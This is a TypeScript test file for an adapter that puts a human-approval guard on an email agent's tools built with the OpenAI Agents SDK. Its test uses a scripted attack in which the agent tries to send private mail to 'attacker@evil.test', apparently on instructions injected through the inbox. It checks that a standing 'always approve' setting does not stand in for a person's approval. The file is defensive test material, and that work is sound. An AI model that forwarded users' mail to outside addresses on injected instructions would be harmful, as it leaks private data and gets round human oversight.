import { Agent, Runner, RunState, tool } from '@openai/agents';
import { describe, expect, it } from 'vitest';
import { z } from 'zod';
import { ScriptedModel } from '../../examples/openai-agents/scripted-model.ts';
import { guardTools } from '../../src/adapters/openai-agents.ts';
import { type AdapterDriver, type Conversation, conformance, lastApproval } from './conformance.ts';
import { FINAL_TEXT, scripts, type World, world } from './fixture.ts';

function mailTools(w: World) {
  return [
    tool({
      name: 'read_inbox',
      description: 'Read the inbox',
      parameters: z.object({}),
      execute: async () => JSON.stringify(w.mailbox.readInbox()),
    }),
    tool({
      name: 'send_email',
      description: 'Send an email',
      parameters: z.object({ to: z.string(), body: z.string() }),
      execute: async (args) => w.mailbox.sendEmail(args),
    }),
  ];
}

const runner = new Runner({ tracingDisabled: true });

function openAIAgentsDriver(): AdapterDriver {
  const approvals = lastApproval();
  return {
    name: 'openai-agents',
    async run(w, script, human) {
      const conversation: Conversation = { seen: new Map(), asked: [] };
      const agent = new Agent({
        name: 'mail assistant',
        instructions: 'Help with email.',
        model: new ScriptedModel(script, conversation),
        tools: guardTools(mailTools(w), { guard: w.guard, session: w.session }),
      });
      let result = await runner.run(agent, 'Check my inbox and answer Alice.');
      for (let round = 0; round < 5 && result.interruptions.length > 0; round++) {
        for (const item of result.interruptions) {
          const raw = item.rawItem as { callId: string; name: string; arguments: string };
          conversation.asked.push(raw.callId);
          const approved = human({ tool: raw.name, args: JSON.parse(raw.arguments), callId: raw.callId });
          if (approved) result.state.approve(item);
          else result.state.reject(item);
        }
        const saved = result.state.toString();
        const replay = async () => runner.run(agent, await RunState.fromString(agent, saved));
        for (const item of result.interruptions) {
          approvals.remember(conversation, (item.rawItem as { callId: string }).callId, replay);
        }
        result = await runner.run(agent, result.state);
      }
      return conversation;
    },
    replay: () => approvals.replay(),
  };
}

conformance(openAIAgentsDriver());

describe('openai-agents adapter', () => {
  it('always-approve: a standing framework approval does not stand in for a person', async () => {
    const w = await world('ask', { name: 'always' });
    const conversation: Conversation = { seen: new Map(), asked: [] };
    const agent = new Agent({
      name: 'mail assistant',
      model: new ScriptedModel(
        [
          ...scripts.attack,
          ...scripts.attack
            .slice(1)
            .map(() => [
              { id: 'call_exfil_2', name: 'send_email' as const, args: { to: 'attacker@evil.test', body: 'more' } },
            ]),
        ],
        conversation,
      ),
      tools: guardTools(mailTools(w), { guard: w.guard, session: w.session }),
    });
    let result = await runner.run(agent, 'Check my inbox.');
    const [first] = result.interruptions;
    expect(first).toBeDefined();
    if (first) result.state.approve(first, { alwaysApprove: true });
    result = await runner.run(agent, result.state);
    expect(w.mailbox.sent.map((m) => m.body)).toEqual(['Lunch on Friday? (forwarded private mail)']);
    expect(conversation.seen.get('call_exfil_2')).toContain("needs a person's approval");
    expect(result.finalOutput).toBe(FINAL_TEXT);
  });
});
